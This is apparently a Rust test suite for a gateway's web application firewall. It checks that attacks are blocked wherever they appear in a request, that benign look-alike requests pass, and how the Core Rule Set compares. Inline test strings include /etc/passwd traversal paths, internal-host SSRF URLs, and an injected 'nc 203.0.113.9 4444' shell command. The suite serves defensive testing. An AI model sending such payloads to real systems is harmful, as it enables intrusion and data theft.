//! Blocking as it is shipped: attacks by kind and place, and clean requests that look like them,
//! through a gateway.

mod attacks;
mod clean;
mod encodings;
mod places;

use std::path::{Path, PathBuf};

use bartizan_testkit::{Gateway, Reply, run};

use attacks::GROUPS;
use places::Place;

/// Who calls is known, so that events can name it.
const RESOURCES: &str = "
consumers: [{username: alice, plugins: {key-auth: {key: alice-key, danger_weak_secret: true}}}]
routes:
- id: r
  uri: /*
  upstream: {nodes: {\"127.0.0.1:8080\": 1}}
  plugins:
    key-auth: {}
    any-authenticated: {reason: whoever has a key}
    waf: {}
";

/// What is wrong with the outcome of an attack: it must be refused by a rule, be seen by no
/// upstream, and be told in one event that names the rule and who sent it.
fn fault(reply: &Reply, status: u16, rule: Option<u32>) -> Option<String> {
    if !reply.seen().is_empty() {
        return Some("the upstream saw it".to_owned());
    }
    if reply.status() != status {
        return Some(format!("{} instead of {status}", reply.status()));
    }
    let [event] = reply.events() else {
        return Some(format!("{} events", reply.events().len()));
    };
    if event["plugin"] != "waf" || event["reason"] != "inspect.refused" {
        return Some(format!("refused by {} as {}", event["plugin"], event["reason"]));
    }
    if event["consumer"] != "alice" {
        return Some(format!("the event names {}", event["consumer"]));
    }
    let told = event["rule"].as_str().unwrap_or_default();
    match rule {
        Some(rule) if told != rule.to_string() => Some(format!("rule {told} instead of {rule}")),
        None if told.is_empty() => Some("the event names no rule".to_owned()),
        _ => None,
    }
}

#[test]
fn attacks_are_refused_wherever_they_stand() {
    run(async {
        let (mut count, mut faults) = (0, Vec::new());
        for group in GROUPS {
            // One for each group: what a gateway has told is kept for as long as it lives.
            let gateway = Gateway::of(RESOURCES);
            for (place, text) in group
                .places
                .iter()
                .flat_map(|place| group.texts.iter().map(move |text| (place, text)))
            {
                let Some(request) = place.request(&gateway, text) else { continue };
                count += 1;
                let reply = request.send().await;
                if let Some(fault) = fault(&reply, 403, Some(group.rule)) {
                    faults.push(format!("{}, {place:?}: {text:?}: {fault}", group.name));
                }
            }
        }
        assert!(faults.is_empty(), "{} of {count}:\n{}", faults.len(), faults.join("\n"));
        assert!(count > 700, "{count}");
    });
}

#[test]
fn attacks_in_disguise_are_refused() {
    run(async {
        let gateway = Gateway::of(RESOURCES);
        let mut faults = Vec::new();
        for disguise in encodings::DISGUISES {
            let mut request = gateway.request(disguise.method, disguise.target);
            request = request.header("apikey", "alice-key").header("User-Agent", "client/1.0");
            if !disguise.content_type.is_empty() {
                request = request.header("Content-Type", disguise.content_type).body(disguise.body);
            }
            let (status, rule) = disguise.outcome;
            if let Some(fault) = fault(&request.send().await, status, Some(rule)) {
                faults.push(format!("{}: {fault}", disguise.name));
            }
        }
        assert!(faults.is_empty(), "{}:\n{}", faults.len(), faults.join("\n"));
    });
}

#[test]
fn control_characters_in_targets_need_no_rule() {
    run(async {
        let gateway = Gateway::of(RESOURCES);
        for target in [
            "/a?q=%3Cscr%00ipt%3E",
            "/a?q=%u003cscript%u003e",
            "/a?f=%uff0e%uff0e/etc/passwd",
            "/a?q=%c0%80%00",
            "/a%0d%0aX:%20y",
            "/a/..%2f..%2fetc/passwd",
            "/a/%252e%252e/%252e%252e/etc/passwd",
        ] {
            let reply = gateway.get(target).header("apikey", "alice-key").send().await;
            reply.expect(400).reason("http.ambiguous_target");
        }
    });
}

#[test]
fn what_only_looks_like_an_attack_passes_wherever_it_stands() {
    run(async {
        let (mut count, mut faults) = (0, Vec::new());
        for texts in clean::TEXTS.chunks(30) {
            let gateway = Gateway::of(RESOURCES);
            for (text, place) in
                texts.iter().flat_map(|text| CLEAN_PLACES.map(|place| (text, place)))
            {
                let Some(request) = place.request(&gateway, text) else { continue };
                count += 1;
                let reply = request.send().await;
                if reply.status() != 200 || reply.seen().len() != 1 || !reply.events().is_empty() {
                    let detail = reply.events().first().map(|event| event["detail"].clone());
                    faults.push(format!("{place:?}: {text:?}: {detail:?}"));
                }
            }
        }
        assert!(faults.is_empty(), "{} of {count}:\n{}", faults.len(), faults.join("\n"));
        assert!(count > 900, "{count}");
    });
}

const CLEAN_PLACES: [Place; 6] =
    [Place::Query, Place::Cookie, Place::Form, Place::JsonLeaf, Place::XmlText, Place::Part];

/// The folder of the Core Rule Set, version 4, if it is here.
fn crs() -> Option<PathBuf> {
    let folder = std::env::var_os("BARTIZAN_CRS").map_or_else(
        || Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/crs"),
        PathBuf::from,
    );
    let is_there = folder.join("rules").is_dir();
    if !is_there {
        println!("skipped: no rules in {}", folder.display());
    }
    is_there.then_some(folder)
}

/// How bodies are read, as set-ups of ModSecurity have it.
const FRAME: &str = r#"
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/(?:[a-z0-9.-]+[+])?json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
"#;

/// Where the Core Rule Set is tried: it takes its time in a build that is not optimised.
const CRS_PLACES: [Place; 5] =
    [Place::Query, Place::JsonLeaf, Place::JsonKey, Place::Header, Place::FileName];

/// What it does not refuse at level 1 with its defaults, by kind or by text: it has no rules for
/// these kinds of URLs nor for a name, a quote and a comment alone, finds lines of heads in names and targets only, and knows the shortest
/// commands and the odd spellings at higher levels.
const CRS_LEAVES: [&str; 10] = [
    "gopher://203.0.113.9:6379/_INFO",
    "dict://203.0.113.9:11211/stat",
    "jar:http://203.0.113.9/a!/b",
    "lines of heads",
    "names that end a query",
    "x;id",
    "x | nc 203.0.113.9 4444",
    "https://user@127.0.0.1/",
    "http://0x7f000001/",
    "....//....//....//etc/passwd",
];

#[test]
fn the_core_rule_set_refuses_these_attacks_too() {
    let Some(folder) = crs().and_then(|folder| folder.canonicalize().ok()) else { return };
    let resources = format!(
        "plugin_metadata: [{{id: waf, rule_sets: {{crs: {{files: [frame.conf, \
         {0}/crs-setup.conf.example, {0}/rules/*.conf]}}}}}}]\n{1}",
        folder.display(),
        RESOURCES.replace("waf: {}", "waf: {rule_set: crs}")
    );
    run(async {
        let builder = Gateway::builder().resources(&resources);
        let gateway = builder.file("frame.conf", FRAME).start();
        let (mut count, mut left, mut faults) = (0, 0, Vec::new());
        for (group, place) in GROUPS
            .iter()
            .flat_map(|group| CRS_PLACES.map(|place| (group, place)))
            .filter(|(group, place)| group.places.contains(place))
        {
            for text in group.texts {
                let Some(request) = place.request(&gateway, text) else { continue };
                count += 1;
                let Some(fault) = fault(&request.send().await, 403, None) else { continue };
                if CRS_LEAVES.contains(text) || CRS_LEAVES.contains(&group.name) {
                    left += 1;
                } else {
                    faults.push(format!("{}, {place:?}: {text:?}: {fault}", group.name));
                }
            }
        }
        assert!(faults.is_empty(), "{} of {count}:\n{}", faults.len(), faults.join("\n"));
        assert!(count > 300 && left < 40, "{left} of {count}");
    });
}
